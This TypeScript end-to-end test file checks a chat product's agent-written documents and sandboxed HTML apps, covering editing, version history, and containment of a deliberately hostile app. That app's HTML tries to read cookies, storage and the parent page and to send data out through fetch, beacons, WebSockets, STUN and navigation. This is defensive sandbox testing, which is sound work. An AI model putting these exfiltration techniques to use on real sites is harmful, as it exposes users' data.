// Documents and mini apps beside the chat: written by an agent, edited by a person, and sealed off when they run.
import { createSocket, type Socket } from 'node:dgram';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { chatWith, createAgent } from './agent-page.ts';
import { composer, conversation, finishedReply, send } from './chat-page.ts';
import { startCollector, type Collector } from './collector.ts';
import { becomeMember } from './member-page.ts';
import { useProduct } from './product.ts';

const product = useProduct();
const WIDE = { viewport: { width: 1500, height: 900 } };
const AGENT = { name: 'Writer', tools: ['artifact-write'] };

let collector: Collector;
/** For what leaves without a connection, such as the questions of a call between browsers. */
let datagrams: Socket;
let datagramCount = 0;

beforeAll(async () => {
  collector = await startCollector();
  datagrams = createSocket('udp4').on('message', () => {
    datagramCount += 1;
  });
  await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve));
});

afterAll(async () => {
  datagrams.close();
  await collector.stop();
});

const pane = (page: Page): Locator => page.getByRole('complementary', { name: 'Documents' });
const press = (place: Page | Locator, name: string) =>
  place.getByRole('button', { name, exact: true }).click();

async function write(args: object): Promise<void> {
  (await product.vendor.nextCall()).callTools({ name: 'artifact_write', args });
}

/** What the newest call of the agent was answered, and the answer to the person. */
async function finish(text: string): Promise<string> {
  const call = await product.vendor.nextCall();
  call.reply(text);
  return String(call.messages.at(-1)?.content);
}

async function openWriter(page: Page): Promise<void> {
  const id = await createAgent(page, AGENT);
  await chatWith(page, { id, name: AGENT.name });
}

test('an agent writes a document, the person edits it, the agent patches the edited text, and an older version comes back [TOOL-11]', async () => {
  const page = await product.openVisitor('/#/login', WIDE);
  await becomeMember(page);
  await openWriter(page);
  await send(page, 'Write to Ada.');
  await write({
    action: 'create',
    title: 'Letter to Ada',
    kind: 'markdown',
    content: '# Hello\n\nDear Ada, **soon**.',
  });
  // It opens by itself, as it will be read.
  await pane(page).getByRole('heading', { name: 'Letter to Ada' }).waitFor();
  await pane(page).getByRole('heading', { name: 'Hello' }).waitFor();
  const id = /doc-[0-9a-f]{8}/.exec(await finish('Here is the letter.'))?.[0] ?? '';
  await finishedReply(page);

  await press(pane(page), 'Edit');
  const source = pane(page).getByRole('textbox', { name: 'Source of the document' });
  await source.fill('# Hello\n\nDear Ada, **on Monday**.\n\nYours, Ben');
  await press(pane(page), 'Save');
  await pane(page).getByText('Version 2', { exact: true }).waitFor();
  await pane(page).getByText('Yours, Ben').waitFor();

  await send(page, 'Make it Tuesday.');
  const asked = await product.vendor.nextCall();
  expect(String(asked.messages.at(-1)?.content)).toContain(`${id}: "Letter to Ada", markdown, version 2`);
  expect(String(asked.messages.at(-1)?.content)).toContain('edited by the user');
  asked.callTools({ name: 'artifact_write', args: { action: 'read', artifact: id } });
  const read = await product.vendor.nextCall();
  expect(String(read.messages.at(-1)?.content)).toContain('Yours, Ben');
  const replacements = [{ find: 'Monday', replace: 'Tuesday' }];
  read.callTools({ name: 'artifact_write', args: { action: 'patch', artifact: id, replacements } });
  await pane(page).getByText('on Tuesday').waitFor();
  await finish('Done.');
  await finishedReply(page);

  await press(pane(page), 'Previous version');
  await press(pane(page), 'Previous version');
  await pane(page).getByText('Version 1', { exact: true }).waitFor();
  await press(pane(page), 'Restore');
  await pane(page).getByText('Version 4', { exact: true }).waitFor();
  await pane(page).getByText('soon').waitFor();

  await page.reload();
  await conversation(page).getByRole('button', { name: 'Open Letter to Ada, version 3' }).click();
  await pane(page).getByText('Version 3', { exact: true }).waitFor();
  await pane(page).getByText('Yours, Ben').waitFor();
  await press(pane(page), 'Next version');
  await pane(page).getByText('soon').waitFor();
  await page.keyboard.press('Escape');
  await expect.poll(() => pane(page).count()).toBe(0);
});

async function runApp(page: Page, html: string): Promise<void> {
  await send(page, 'Make an app.');
  await write({ action: 'create', title: 'App', kind: 'html', content: html });
  await finish('Here it is.');
  await finishedReply(page);
  // Nothing of it runs before the person says so.
  expect(await pane(page).locator('iframe').count()).toBe(0);
  await press(pane(page), 'Run');
  await pane(page).locator('iframe').waitFor();
}

/** Tries everything that would reach the page, or send something out, and says what worked. */
function toHostileApp(host: string, datagramPort: number): string {
  return `<!doctype html>
<link rel="stylesheet" href="http://${host}/style.css">
<link rel="preconnect" href="http://${host}">
<link rel="prefetch" href="http://${host}/prefetch">
<link rel="preload" as="image" href="http://${host}/preload.png">
<link rel="icon" href="http://${host}/icon.png">
<style>body { background: url(http://${host}/background.png) } @font-face { font-family: x; src: url(http://${host}/font) }</style>
<script src="http://${host}/script.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${host}/speculation"]}]}</script>
<p style="font-family: x">Hello</p>
<img src="http://${host}/image.png">
<video src="http://${host}/video" poster="http://${host}/poster"></video>
<iframe src="http://${host}/frame"></iframe>
<object data="http://${host}/object"></object>
<form id="form" action="http://${host}/form" method="post"><input name="a" value="b"></form>
<a id="link" href="http://${host}/link" target="_blank" ping="http://${host}/ping">link</a>
<script>
  const worked = [];
  const attempt = async (name, act) => {
    const late = new Promise((resolve) => setTimeout(resolve, 1000));
    try { const value = await Promise.race([act(), late]); if (value !== null && value !== undefined && value !== false) worked.push(name); } catch {}
  };
  (async () => {
    await attempt('cookies', () => document.cookie);
    await attempt('local storage', () => localStorage.length);
    await attempt('session storage', () => sessionStorage.length);
    await attempt('database', () => indexedDB.open('x'));
    await attempt('caches', () => caches.keys());
    await attempt('parent', () => parent.document.title);
    await attempt('top', () => top.location.href);
    await attempt('top navigation', () => { top.location.href = 'http://${host}/top'; });
    await attempt('popup', () => open('http://${host}/popup'));
    await attempt('fetch', () => fetch('http://${host}/fetch', { mode: 'no-cors' }));
    await attempt('own fetch', () => fetch('/api/models'));
    await attempt('beacon', () => { navigator.sendBeacon('http://${host}/beacon', 'x'); });
    await attempt('request', () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('GET', 'http://${host}/request'); request.onload = resolve; request.onerror = reject; request.send();
    }));
    await attempt('socket', () => new Promise((resolve, reject) => {
      const socket = new WebSocket('ws://${host}/socket'); socket.onopen = resolve; socket.onerror = reject;
    }));
    await attempt('events', () => new Promise((resolve, reject) => {
      const events = new EventSource('http://${host}/events'); events.onopen = resolve; events.onerror = reject;
    }));
    await attempt('module', () => import('http://${host}/module.js'));
    await attempt('worker', () => new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = resolve; worker.onerror = reject;
    }));
    await attempt('service worker', () => navigator.serviceWorker.register('/sw.js'));
    await attempt('evaluation', () => new Function('return 1')());
    const call = (api) => {
      const peer = new api({ iceServers: [{ urls: 'stun:127.0.0.1:${datagramPort}' }] });
      peer.createDataChannel('x');
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => undefined);
    };
    await attempt('call', () => call(RTCPeerConnection));
    await attempt('call of a frame', () => {
      const inner = document.body.appendChild(document.createElement('iframe'));
      return call(inner.contentWindow.RTCPeerConnection);
    });
    parent.postMessage({ type: 'ready', worked }, '*');
    document.getElementById('form').submit();
    document.getElementById('link').click();
    location.href = 'http://${host}/location';
  })();
</script>`;
}

test('a hostile app reaches neither the page, nor what is stored, nor the network, before or after it is run [RE-04]', async () => {
  product.expectViolations();
  const page = await product.openVisitor('/#/login', WIDE);
  await becomeMember(page);
  await openWriter(page);
  const address = datagrams.address();
  await page.evaluate(() => addEventListener('message', ({ data }) => Reflect.set(globalThis, 'said', data)));
  await runApp(page, toHostileApp(collector.host, address.port));
  await expect
    .poll(() => page.evaluate(() => Reflect.get(globalThis, 'said')))
    .toEqual({ type: 'ready', worked: [] });
  // At last it tried to go elsewhere with what it knew.
  await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true);
  expect(collector.connections()).toBe(0);
  expect(datagramCount).toBe(0);
  expect(page.url()).toContain('/#/chat');
  expect(page.context().pages()).toHaveLength(1);
  await composer(page).fill('The chat goes on.');
  // The page itself could: what was counted would have been heard.
  await page.evaluate(async (url) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: url }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  }, `stun:127.0.0.1:${address.port}`);
  await expect.poll(() => datagramCount).toBeGreaterThan(0);
});

test('an app that never ends leaves the page usable and is stopped by its button [RE-04, RE-06]', async () => {
  const page = await product.openGuest(WIDE);
  await openWriter(page);
  await runApp(page, '<p>Spinning</p><script>setTimeout(() => { for (;;); }, 200)</script>');
  await composer(page).fill('Still here');
  await expect.poll(() => composer(page).inputValue()).toBe('Still here');
  await press(pane(page), 'Stop');
  await pane(page).getByRole('button', { name: 'Run', exact: true }).waitFor();
  await composer(page).fill('And after');
});
